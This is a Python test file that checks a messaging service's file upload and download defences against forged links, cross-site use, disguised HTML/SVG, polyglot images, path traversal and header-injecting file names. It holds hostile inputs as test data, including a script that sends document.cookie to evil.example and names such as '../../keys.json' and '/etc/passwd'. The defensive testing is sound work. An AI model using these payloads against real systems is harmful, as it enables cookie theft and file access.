"""Pictures and files in the hands of people who want something else (ADR-0015)."""

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

import aiohttp
import pytest

from backend.kit.clock import ManualClock
from backend.kit.settings import SERVICES
from tests.attacks.house import AuthHouse, auth_house
from tests.device import Device, new_jti
from tests.pictures import jpeg

FILES = "/messaging/v1/files"
ROOM = "/messaging/v1/rooms/sosa-general/messages"
PAGE = b"<!doctype html><script>fetch('https://evil.example/' + document.cookie)</script>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.fixture
async def house(tmp_path: Path, clock: ManualClock) -> AsyncIterator[AuthHouse]:
    async with auth_house(tmp_path, clock, serve=SERVICES) as opened:
        yield opened


async def begun(device: Device, size: int, name: str = "cat.jpg", kind: str = "") -> dict[str, Any]:
    file = {"id": new_jti()[:20], "name": name, "size": size, "media_type": kind}
    reply = await device.call("messaging", "POST", FILES, {"files": [file]})
    return reply.response["uploads"][0]


async def put(
    house: AuthHouse, upload: dict[str, Any], content: bytes, **headers: str
) -> aiohttp.ClientResponse:
    url = house.url + upload["url"]
    async with house.http.put(
        url, data=content, headers={**upload["headers"], **headers}
    ) as answer:
        await answer.read()
        return answer


async def brought(
    house: AuthHouse, device: Device, content: bytes, name: str = "cat.jpg", kind: str = ""
) -> dict[str, Any]:
    upload = await begun(device, len(content), name, kind)
    assert (await put(house, upload, content)).status == 204
    path = f"{FILES}/{upload['file_id']}/finish"
    return (await device.call("messaging", "POST", path, {})).response


async def posted(device: Device, *ids: str) -> dict[str, Any]:
    draft = {"id": new_jti()[:20], "text": "look", "files": list(ids)}
    reply = await device.call("messaging", "POST", ROOM, {"messages": [draft]})
    return reply.response["receipts"][0]


async def links(device: Device, file_id: str) -> dict[str, str]:
    reply = await device.call("messaging", "GET", FILES, query=f"id={file_id}")
    found: list[dict[str, Any]] = reply.response["files"]
    return found[0]["urls"] if found else {}


def token_of(url: str) -> str:
    return parse_qs(urlsplit(url).query)["t"][0]


async def got(house: AuthHouse, url: str, **headers: str) -> tuple[int, bytes, dict[str, str]]:
    async with house.http.get(house.url + url, headers=headers, allow_redirects=False) as answer:
        return answer.status, await answer.read(), dict(answer.headers)


async def test_a_link_opens_its_file_and_nothing_else(
    house: AuthHouse, ada: Device, ben: Device
) -> None:
    first, second = [await brought(house, ada, jpeg(40, side)) for side in (30, 31)]
    link = (await links(ada, first["id"]))["full"]
    assert (await got(house, link))[0] == 200
    token = token_of(link)
    who, session, until, tag = token.split("~")
    other = "A" if tag[0] != "A" else "B"
    forged = [
        f"{who}~{session}~{until}~{other}{tag[1:]}",
        f"{who}~{session}~{int(until) + 1}~{tag}",
        f"{ben.user['id']}~{session}~{until}~{tag}",
        f"{who}~{ben.session}~{until}~{tag}",
        f"{who}~{session}~{until}~",
        f"{who}~{session}~{until}",
        "",
        "~~~",
        "\n\n\n",
    ]
    for each in forged:
        url = f"{FILES}/{first['id']}/full?t={quote(each, safe='')}"
        assert (await got(house, url))[0] == 404, each
    assert (await got(house, link.replace(first["id"], second["id"])))[0] == 404
    assert (await got(house, link.partition("?")[0]))[0] == 404


async def test_a_link_to_look_at_is_none_to_write(house: AuthHouse, ada: Device) -> None:
    content = jpeg(40, 30)
    upload = await begun(ada, len(content))
    await put(house, upload, content)
    finish = f"{FILES}/{upload['file_id']}/finish"
    await ada.call("messaging", "POST", finish, {})
    view = token_of((await links(ada, upload["file_id"]))["full"])
    fresh = await begun(ada, len(content))
    written = {**fresh, "url": f"{fresh['url'].partition('?')[0]}?t={quote(view)}"}
    assert (await put(house, written, content)).status == 404
    write = token_of(upload["url"])
    url = f"{FILES}/{upload['file_id']}/full?t={quote(write)}"
    assert (await got(house, url))[0] == 404


async def test_a_link_ends_with_its_time(house: AuthHouse, ada: Device, clock: ManualClock) -> None:
    file = await brought(house, ada, jpeg(40, 30))
    link = (await links(ada, file["id"]))["full"]
    status, _, headers = await got(house, link)
    left = int(headers["Cache-Control"].partition("max-age=")[2].partition(",")[0])
    assert (status, 900 < left <= 1800) == (200, True)
    assert headers["Cache-Control"].startswith("private")
    clock.advance(left - 1)
    assert (await got(house, link))[0] == 200
    clock.advance(1)
    assert (await got(house, link))[0] == 404


async def test_a_link_ends_with_the_session_that_asked_for_it(
    house: AuthHouse, ada: Device, ben: Device
) -> None:
    file = await brought(house, ada, jpeg(40, 30))
    await posted(ada, file["id"])
    mine, theirs = [(await links(device, file["id"]))["full"] for device in (ada, ben)]
    assert mine != theirs
    assert [(await got(house, url))[0] for url in (mine, theirs)] == [200, 200]
    await ada.sign_out()
    assert [(await got(house, url))[0] for url in (mine, theirs)] == [404, 200]


async def test_nobody_but_its_owner_knows_of_a_file_before_it_is_sent(
    house: AuthHouse, ada: Device, ben: Device
) -> None:
    file = await brought(house, ada, jpeg(40, 30))
    assert await links(ada, file["id"])
    assert await links(ben, file["id"]) == {}
    assert (await posted(ben, file["id"]))["error"]["code"] == "file_gone"
    finish = f"{FILES}/{file['id']}/finish"
    assert (await ben.call("messaging", "POST", finish, {})).status == 404
    assert (await ada.call("messaging", "POST", finish, {})).status == 200
    await posted(ada, file["id"])
    assert await links(ben, file["id"])


async def test_another_site_can_neither_embed_a_picture_nor_write_one(
    house: AuthHouse, ada: Device
) -> None:
    content = jpeg(40, 30)
    file = await brought(house, ada, content)
    link = (await links(ada, file["id"]))["small"]
    for site, status in {
        "same-origin": 200,
        "none": 200,
        "same-site": 403,
        "cross-site": 403,
    }.items():
        assert (await got(house, link, **{"Sec-Fetch-Site": site}))[0] == status
    assert (await got(house, link))[2]["Cross-Origin-Resource-Policy"] == "same-origin"
    upload = await begun(ada, len(content))
    assert (await put(house, upload, content, Origin="https://evil.example")).status == 403
    assert (await put(house, upload, content, Origin=house.url)).status == 204


NO_PICTURES = (
    (PAGE, "cat.html", "text/html"),
    (PAGE, "cat.png", "text/plain"),
    (DRAWING, "cat.svg", "image/svg+xml"),
    (b"%PDF-1.7", "cat.pdf", "application/pdf"),
)


async def test_what_is_no_picture_is_only_ever_saved(house: AuthHouse, ada: Device) -> None:
    for content, name, kind in NO_PICTURES:
        file = await brought(house, ada, content, name, kind)
        assert (file["kind"], file["media_type"]) == ("file", "application/octet-stream")
        status, body, headers = await got(house, (await links(ada, file["id"]))["full"])
        assert (status, body) == (200, content)
        assert headers["Content-Type"] == "application/octet-stream"
        assert headers["Content-Disposition"].startswith("attachment;")
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


async def test_what_is_called_a_picture_and_is_none_is_not_taken(
    house: AuthHouse, ada: Device
) -> None:
    for content in (PAGE, DRAWING, b"\x89PNG\r\n\x1a\n" + PAGE):
        upload = await begun(ada, len(content), "cat.png", "image/png")
        assert (await put(house, upload, content)).status == 204
        path = f"{FILES}/{upload['file_id']}/finish"
        for _ in range(2):
            reply = await ada.call("messaging", "POST", path, {})
            assert (reply.status, reply.code) == (422, "unreadable_picture")
        assert await links(ada, upload["file_id"]) == {}


async def test_a_page_behind_a_picture_is_gone(house: AuthHouse, ada: Device) -> None:
    file = await brought(house, ada, jpeg(40, 30) + PAGE, "cat.html", "text/html")
    assert (file["kind"], file["name"], file["media_type"]) == ("picture", "cat.jpg", "image/jpeg")
    status, body, headers = await got(house, (await links(ada, file["id"]))["full"])
    assert (status, headers["Content-Type"]) == (200, "image/jpeg")
    assert PAGE not in body


NAMES = {
    "../../keys.json": "keys.json",
    "..\\..\\keys.json": "keys.json",
    "/etc/passwd": "passwd",
    "photo\u202egpj.exe": "photogpj.exe",
    "a\r\nSet-Cookie: b": "aSet-Cookie: b",
    "..": "file",
    '"; filename=x.html': '"; filename=x.html',
}


async def test_a_name_is_only_ever_a_name(house: AuthHouse, ada: Device, tmp_path: Path) -> None:
    for called, kept in NAMES.items():
        file = await brought(house, ada, b"words", called)
        assert file["name"] == kept
        headers = (await got(house, (await links(ada, file["id"]))["full"]))[2]
        said = f"attachment; filename*=UTF-8''{quote(kept, safe='')}"
        assert headers["Content-Disposition"] == said
    places = {path.name for path in (tmp_path / "media").rglob("*") if path.is_file()}
    assert places == {"full"}


async def test_an_id_is_no_path(house: AuthHouse, ada: Device) -> None:
    upload = await begun(ada, 5)
    token = f"t={quote(token_of(upload['url']))}"
    for file_id in ("..", "..%2F..%2Fkeys.json", "%2e%2e", "a%00b"):
        elsewhere = {**upload, "url": f"/messaging/v1/uploads/{file_id}?{token}"}
        assert (await put(house, elsewhere, b"words")).status != 204
        for path in (f"{file_id}/full", f"{upload['file_id']}/{file_id}"):
            assert (await got(house, f"{FILES}/{path}?{token}"))[0] != 200
    assert (await put(house, upload, b"words")).status == 204


async def test_no_more_is_taken_than_was_said(
    house: AuthHouse, ada: Device, tmp_path: Path
) -> None:
    upload = await begun(ada, 1_000_000)

    async def endless() -> AsyncIterator[bytes]:
        for _ in range(40):
            yield b"x" * 65_536

    async with house.http.put(house.url + upload["url"], data=endless()) as answer:
        assert answer.status == 422
    assert [path for path in (tmp_path / "media").rglob("*") if path.is_file()] == []
    assert (await put(house, upload, b"x" * 1_000_000)).status == 204


async def test_a_download_may_go_on_where_it_stopped(house: AuthHouse, ada: Device) -> None:
    file = await brought(house, ada, b"0123456789", "digits.txt")
    link = (await links(ada, file["id"]))["full"]
    status, body, headers = await got(house, link, Range="bytes=4-6")
    assert (status, body, headers["Content-Range"]) == (206, b"456", "bytes 4-6/10")
